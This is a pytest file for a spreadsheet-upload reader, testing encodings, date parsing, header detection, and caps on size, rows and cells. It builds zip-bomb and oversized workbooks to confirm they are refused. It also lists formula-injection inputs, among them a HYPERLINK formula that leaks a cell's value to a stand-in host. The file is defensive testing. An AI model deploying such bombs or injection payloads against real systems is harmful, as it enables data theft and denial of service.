"""core.sheets: the one reader of uploaded .xlsx/.csv sheets. Nothing here needs Django."""

from __future__ import annotations

import codecs
import io
import subprocess
import sys
import time
import tracemalloc
import zipfile
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from core import sheets
from core.sheets import CellError, SheetError, Table, cell_text, parse_date, read_rows, read_table

ROOT = Path(__file__).resolve().parents[2]
MB = 1024 * 1024
ALIASES = {
    "name": ["姓名", "name"],
    "dob": ["出生日期", "date of birth"],
    "weight": ["体重", "weight"],
    "age_months": ["年龄(月)", "age (months)"],
}
REQUIRED = ("name", ("dob", "age_months"))


def xlsx(rows: list[list]) -> bytes:
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_text(rows: list[list[str]]) -> str:
    return "".join(",".join(row) + "\r\n" for row in rows)


def table(content: bytes, name: str = "a.csv", **kwargs) -> Table:
    return read_table(
        content,
        name,
        aliases=ALIASES,
        required=REQUIRED,
        max_bytes=kwargs.pop("max_bytes", MB),
        max_rows=kwargs.pop("max_rows", 100),
        **kwargs,
    )


ROWS = [["姓名", "出生日期", "体重"], ["张三", "2021-03-01", "15"], ["李四", "2021/3/5", "12.5"]]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "gb18030"])
def test_csv_encodings(encoding):
    text = csv_text(ROWS)
    if encoding == "utf-16-le":
        content = codecs.BOM_UTF16_LE + text.encode("utf-16-le")
    elif encoding == "utf-16-be":
        content = codecs.BOM_UTF16_BE + text.encode("utf-16-be")
    else:
        content = text.encode(encoding)
    assert read_rows(content, "a.csv", max_bytes=MB, max_rows=10) == ROWS


def test_tab_separated_utf16_as_excel_saves_unicode_text():
    content = "\r\n".join("\t".join(r) for r in ROWS).encode("utf-16")  # Python writes the BOM
    assert read_rows(content, "a.txt", max_bytes=MB, max_rows=10) == ROWS


def test_gb18030_with_a_stray_byte_still_reads():
    content = csv_text(ROWS).encode("gb18030") + b"\xff\r\n"
    rows = read_rows(content, "a.csv", max_bytes=MB, max_rows=10)
    assert rows[:3] == ROWS


def test_cell_text_folds_full_width_and_strips():
    assert cell_text("  ７．５ｋｇ ") == "7.5kg"
    assert cell_text("ＡＢＣ１２３") == "ABC123"
    assert cell_text(15.0) == "15"
    assert cell_text(15.5) == "15.5"
    assert cell_text(None) == ""
    assert cell_text("张三") == "张三"


@pytest.mark.parametrize(
    "value",
    [
        "2024-03-05",
        "2024-3-5",
        "2024/3/5",
        "2024/03/05",
        "2024.3.5",
        "20240305",
        20240305,
        "2024年3月5日",
        "2024 年 3 月 5 日",
        "2024年3月5",
        "２０２４－０３－０５",
        "２０２４年３月５日",
        "２０２４／３／５",
        "2024-03-05 00:00:00",
        "2024/3/5 0:00",
        "2024-03-05T08:30:00",
        datetime(2024, 3, 5, 10, 0),
        date(2024, 3, 5),
        45356,  # Excel serial number of 2024-03-05
        45356.5,
    ],
)
def test_one_date_grammar(value):
    assert parse_date(value) == date(2024, 3, 5)


@pytest.mark.parametrize(
    "value", ["2021-02-30", "05/03/2024", "2024-03/05", "3月5日", "yesterday", "2024", 12, 1e9, True, "2024-13-01"]
)
def test_bad_dates(value):
    with pytest.raises(CellError) as exc:
        parse_date(value)
    assert exc.value.code == "bad_date"
    assert isinstance(exc.value, ValueError)


@pytest.mark.parametrize("value", [None, "", "  "])
def test_blank_date_is_none(value):
    assert parse_date(value) is None


def test_header_below_title_lines_and_excel_row_numbers():
    rows = [
        ["某某镇中心幼儿园 2024 年体检表"],
        [],
        ["姓名", "出生日期(年-月-日)", "体重 (kg)"],
        ["张三", "2021-03-01", 15],
        [None, None, None],
        ["李四", "2021-03-05", 12],
    ]
    t = table(xlsx(rows), "a.xlsx", unit_suffixes=("kg",))
    assert t.header == 2
    assert t.columns == {"name": 0, "dob": 1, "weight": 2}
    assert t.header_texts["weight"] == "体重 (kg)"
    assert [(n, t.cell(r, "name")) for n, r in t.records()] == [(4, "张三"), (6, "李四")]
    assert t.cell(["x"], "weight") is None
    assert t.cell(["x"], "age_months") is None


def test_header_aliases_ignore_case_spaces_brackets_and_full_width():
    rows = [["NAME", "Ａｇｅ （months）", "Weight*"], ["Amy", "12", "9"]]
    t = table(csv_text(rows).encode(), unit_suffixes=("kg",))
    assert t.columns == {"name": 0, "age_months": 1, "weight": 2}


def test_a_bracketed_alias_does_not_claim_the_bare_header():
    with pytest.raises(SheetError) as exc:
        table(csv_text([["name", "age"], ["Amy", "3"]]).encode())
    assert exc.value.code == "no_header"
    assert exc.value.params["missing"] == ["dob / age_months"]


def test_no_header_names_what_is_missing():
    with pytest.raises(SheetError) as exc:
        table(csv_text([["学生", "班级"], ["张三", "1"]]).encode())
    assert exc.value.code == "no_header"
    assert exc.value.params["columns"] == "name, dob / age_months"
    assert "no column for" in str(exc.value)


def test_header_must_be_within_the_first_rows():
    rows = [["title"]] * 3 + [["姓名", "出生日期"]]
    with pytest.raises(SheetError):
        table(csv_text(rows).encode(), header_search=3)
    assert table(csv_text(rows).encode(), header_search=4).header == 3


@pytest.mark.parametrize("content", [b"", b"\r\n,,\r\n\r\n"])
def test_empty_sheet(content):
    with pytest.raises(SheetError) as exc:
        table(content)
    assert exc.value.code == "empty"


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_row_cap(name):
    rows = [["title"], ["姓名", "出生日期"]] + [["x", "2021-03-01"]] * 5
    content = xlsx(rows) if name.endswith("xlsx") else csv_text(rows).encode()
    assert len(list(table(content, name, max_rows=5).records())) == 5
    with pytest.raises(SheetError) as exc:
        table(content, name, max_rows=4)
    assert (exc.value.code, exc.value.params) == ("too_many_rows", {"max": 4})
    assert str(exc.value) == "The sheet has more than 4 rows."


def test_rows_beyond_the_cap_are_never_read(monkeypatch):
    read = []

    def counting(*args, **kwargs):
        for row in [["姓名", "出生日期"]] + [["x", "2021-03-01"]] * 1000:
            read.append(row)
            yield row

    monkeypatch.setattr(sheets, "iter_rows", counting)
    with pytest.raises(SheetError):
        read_table(b"", "a.csv", aliases=ALIASES, required=REQUIRED, max_bytes=MB, max_rows=50)
    assert len(read) == 1 + 50 + 1  # the header, the cap, and one row to know it is over
    assert len(read_rows(xlsx([["a"]] * 200), "a.xlsx", max_bytes=MB, max_rows=50, header_search=10)) == 61


def test_size_cap_is_checked_before_parsing(tmp_path):
    with pytest.raises(SheetError) as exc:
        read_rows(b"x" * (2 * MB + 1), "a.xlsx", max_bytes=2 * MB, max_rows=10)
    assert exc.value.code == "too_large"
    assert exc.value.params["mb"] == 2
    path = tmp_path / "big.csv"
    path.write_bytes(b"a,b\r\n" * 1000)
    with pytest.raises(SheetError):
        read_rows(path=path, max_bytes=1000, max_rows=10)


def test_reads_from_a_path(tmp_path):
    path = tmp_path / "in.xlsx"
    path.write_bytes(xlsx(ROWS))
    t = read_table(path=path, aliases=ALIASES, required=REQUIRED, max_bytes=MB, max_rows=10)
    assert [r for _, r in t.records()] == ROWS[1:]


def test_xlsx_keeps_cell_types():
    rows = read_rows(
        xlsx([["a", "b"], [datetime(2024, 3, 5), 15.5], ["=1+1", None]]), "a.xlsx", max_bytes=MB, max_rows=10
    )
    assert rows[1] == [datetime(2024, 3, 5), 15.5]
    assert rows[2] == [None]  # a formula without a cached value reads as blank; rows are not padded


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("a.xlsx", b"not a zip file", "bad_workbook"),
        ("a.xlsx", b"PK\x03\x04" + b"\x00" * 100, "bad_workbook"),
        ("a.csv", b"a,b\r\n\x00\x00\x00\r\n", "bad_csv"),
        ("a.pdf", b"%PDF-1.4", "file_type"),
        ("a", b"a,b", "file_type"),
        ("a.xls", b"\xd0\xcf\x11\xe0", "file_type"),
    ],
)
def test_bad_files(name, content, code):
    with pytest.raises(SheetError) as exc:
        read_rows(content, name, max_bytes=MB, max_rows=10)
    assert exc.value.code == code
    assert str(exc.value) == sheets.MESSAGES[code]


def test_a_csv_named_xlsx_is_refused_as_a_workbook():
    with pytest.raises(SheetError) as exc:
        read_rows(csv_text(ROWS).encode(), "a.xlsx", max_bytes=MB, max_rows=10)
    assert exc.value.code == "bad_workbook"


def test_imports_no_django_and_no_app():
    probe = (
        "import sys, core.sheets\n"
        "bad = [m for m in sys.modules if m == 'django' or m.startswith('django.')]\n"
        "assert not bad, bad\n"
    )
    subprocess.run([sys.executable, "-c", probe], cwd=ROOT, check=True, timeout=60)  # noqa: S603


def test_utf16_without_bom_is_refused_rather_than_read_as_garbage():
    with pytest.raises(SheetError) as exc:
        read_rows(csv_text(ROWS).encode("utf-16-le"), "a.csv", max_bytes=MB, max_rows=10)
    assert exc.value.code == "bad_csv"


# ---------------------------------------------------------------- crafted workbooks

SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
)
HEADERS = ["姓名", "身份证号", "出生日期", "性别", "体重", "缺勤日期", "是否请假"]


def _inline(ref: str, text: str) -> str:
    where = f' r="{ref}"' if ref else ""  # without a reference a cell follows the one before
    return f'<c{where} t="inlineStr"><is><t>{text}</t></is></c>'


def _with_sheet(write_sheet) -> bytes:
    """A real workbook whose first sheet's XML is written by ``write_sheet(file)``."""
    template = zipfile.ZipFile(io.BytesIO(xlsx([["x"]])))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as book:
        for item in template.infolist():
            if item.filename == "xl/worksheets/sheet1.xml":
                with book.open(item.filename, "w", force_zip64=True) as fh:
                    write_sheet(fh)
            else:
                book.writestr(item, template.read(item))
    return out.getvalue()


def bomb_xlsx(unpacked_mb: int) -> bytes:
    """A workbook whose sheet XML is ``unpacked_mb`` MB of one row repeated (about 1000:1)."""
    row = "<row>" + "".join(_inline("", "张三") for _ in range(10)) + "</row>"  # valid: openpyxl reads it
    chunk = (row * (2**20 // len(row.encode()))).encode()  # whole rows, about 1 MB

    def write(fh):
        fh.write((SHEET_HEAD + "<sheetData>").encode())
        for _ in range(unpacked_mb):
            fh.write(chunk)
        fh.write(b"</sheetData></worksheet>")

    return _with_sheet(write)


def wide_xlsx(rows: int) -> bytes:
    """A sheet declared 16,384 columns wide, every row with a cell in column XFD."""

    def write(fh):
        fh.write((SHEET_HEAD + '<dimension ref="A1:XFD1048576"/><sheetData>').encode())
        header = "".join(_inline(f"{chr(65 + i)}1", h) for i, h in enumerate(HEADERS))
        fh.write(f'<row r="1">{header}</row>'.encode())
        for r in range(2, rows + 2):
            fh.write(f'<row r="{r}">{_inline(f"A{r}", "张三")}<c r="XFD{r}"><v>1</v></c></row>'.encode())
        fh.write(b"</sheetData></worksheet>")

    return _with_sheet(write)


def test_a_zip_bomb_is_refused_before_parsing_quickly_and_in_little_memory(monkeypatch):
    content = bomb_xlsx(64)  # over the 50 MB cap once unpacked
    assert len(content) < MB
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: pytest.fail("parsed a bomb"))
    tracemalloc.start()
    started = time.perf_counter()
    with pytest.raises(SheetError) as exc:
        read_rows(content, "a.xlsx", max_bytes=20 * MB, max_rows=20000)
    seconds = time.perf_counter() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert exc.value.code == "unpacked_too_large"
    assert str(exc.value) == "The workbook unpacks to more than 50 MB or is not an ordinary Excel file."
    assert seconds < 1
    assert peak < 10 * MB


def test_an_extreme_compression_ratio_is_refused_under_the_size_cap():
    content = bomb_xlsx(20)  # 20 MB unpacked, about 1000:1
    with pytest.raises(SheetError) as exc:
        read_rows(content, "a.xlsx", max_bytes=MB, max_rows=10)
    assert exc.value.code == "unpacked_too_large"
    with pytest.raises(SheetError) as exc:
        read_rows(content, "a.xlsx", max_bytes=MB, max_rows=10, max_unpacked=10 * MB)
    assert exc.value.params == {"mb": 10}


def test_a_workbook_of_too_many_parts_is_refused():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as book:
        for i in range(sheets.MAX_MEMBERS + 1):
            book.writestr(f"p{i}", b"")
    with pytest.raises(SheetError) as exc:
        read_rows(out.getvalue(), "a.xlsx", max_bytes=MB, max_rows=10)
    assert exc.value.code == "unpacked_too_large"


def test_rows_declared_16384_columns_wide_are_read_narrow():
    started = time.perf_counter()
    rows = read_rows(wide_xlsx(5000), "a.xlsx", max_bytes=2 * MB, max_rows=5000)
    assert time.perf_counter() - started < 10  # 11.7 s and 1.3 GB before
    assert rows[0] == HEADERS
    assert rows[1][0] == "张三"
    assert max(len(r) for r in rows) == sheets.MAX_COLUMNS


def _long_cell_sheet(name: str, chars: int) -> bytes:
    rows = [["姓名", "出生日期"], ["张三", "2021-03-01"], ["x" * chars, "2021-03-01"]]
    if name.endswith(".csv"):
        return csv_text(rows).encode()

    def write(fh):  # by hand: openpyxl itself cuts a longer cell to Excel's limit when writing
        body = "".join(
            f'<row r="{r}">' + "".join(_inline(f"{'AB'[c]}{r}", v) for c, v in enumerate(row)) + "</row>"
            for r, row in enumerate(rows, start=1)
        )
        fh.write((SHEET_HEAD + f"<sheetData>{body}</sheetData></worksheet>").encode())

    return _with_sheet(write)


@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_a_cell_longer_than_excel_allows_is_refused(name):
    with pytest.raises(SheetError) as exc:
        read_rows(_long_cell_sheet(name, sheets.MAX_CELL_CHARS + 1), name, max_bytes=MB, max_rows=10)
    assert (exc.value.code, exc.value.params["row"]) == ("cell_too_large", 3)
    assert str(exc.value) == "A cell in row 3 holds more than 32767 characters."
    assert len(read_rows(_long_cell_sheet(name, sheets.MAX_CELL_CHARS), name, max_bytes=MB, max_rows=10)) == 3


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ('=HYPERLINK("http://x.example/?"&A1,"click")', '\'=HYPERLINK("http://x.example/?"&A1,"click")'),
        ("+1+2", "'+1+2"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3.20", "-3.20"),  # a z-score written as text is a number, not a formula
        ("+12", "+12"),
        ("-", "-"),  # oedema "absent"
        ("张三", "张三"),
        ("a=1", "a=1"),
        (-3.2, -3.2),
        (None, None),
    ],
)
def test_safe_cell(value, written):
    assert sheets.safe_cell(value) == written
